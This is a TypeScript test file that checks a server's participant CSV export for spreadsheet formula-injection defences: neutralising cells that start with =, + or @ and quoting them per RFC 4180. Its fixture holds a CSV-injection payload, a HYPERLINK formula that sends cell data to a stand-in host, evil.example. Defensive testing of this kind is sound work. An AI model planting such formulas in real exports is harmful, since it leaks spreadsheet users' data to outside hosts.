// The server's participant export (the one CSV the server writes) goes through the one CSV writer
// (contract/csv.ts, issue 36 item 6): a panel reference that a spreadsheet would run as a formula
// arrives neutralised and properly quoted; the SDK's files are sdk/core/csv-downloads.test.ts.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import type { Database, Db } from '../../db/client.js';
import { addExposure, addStimStep, createStudy, reportTestbed, type Tenant } from '../analytics/report-fixtures.js';
import { until } from './helpers.js';

let app: FastifyInstance;
let database: Database;
let db: Db;
let t: Tenant;
let studyId: number;

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

beforeAll(async () => {
  ({ app, database, t, db } = await reportTestbed());
  let cellId: number;
  ({ studyId, cellId } = await createStudy(db, { companyId: t.companyId, name: 'Export, with "quotes"' }));
  const { stepId, stimId } = await addStimStep(db, studyId, cellId, { companyId: t.companyId, name: '+Leaderboard, 728x90' });
  await addExposure(db, { studyId, cellId, stepId, stimId }, { participant: { reference: EVIL }, viewable: true, viewableMs: 3000, viewed: true, dwellMs: 1000 });
  await addExposure(db, { studyId, cellId, stepId, stimId }, { participant: { reference: '@cmd' }, viewable: true, viewableMs: 2000 });
});
afterAll(async () => { await app.close(); await database.close(); });

const req = (method: 'GET' | 'POST', url: string, payload?: object) =>
  app.inject({ method, url: `/v1.0${url}`, headers: t.headers, ...(payload ? { payload } : {}) });

describe('participant export CSV', () => {
  it('neutralises formulas and quotes cells (RFC 4180)', async () => {
    const { download } = (await req('POST', `/studies/${studyId}/export-participants`)).json();
    const done = await until('export', async () => {
      const d = (await req('GET', `/downloads/${download.id}`)).json().download;
      return d.status === 'done' || d.status === 'failed' ? d : undefined;
    });
    expect(done.status).toBe('done');
    const body = (await app.inject({ method: 'GET', url: done.url })).body;
    expect(body.endsWith('\r\n')).toBe(true);
    const lines = body.trimEnd().split('\r\n');
    expect(lines).toHaveLength(3);
    const header = lines[0].split(',');
    const refAt = header.indexOf('participant_reference');
    const stimAt = header.indexOf('stim_name');
    // No line holds an unneutralised formula at a cell start, quoted or not.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@]/);
    const evil = lines.find((l) => l.includes('HYPERLINK'))!;
    expect(evil).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"');
    expect(evil).toContain('"\'+Leaderboard, 728x90"');
    expect(lines.some((l) => l.includes(",'@cmd,") || l.startsWith("'@cmd,"))).toBe(true);
    expect(refAt).toBeGreaterThanOrEqual(0);
    expect(stimAt).toBeGreaterThanOrEqual(0);
  });
});
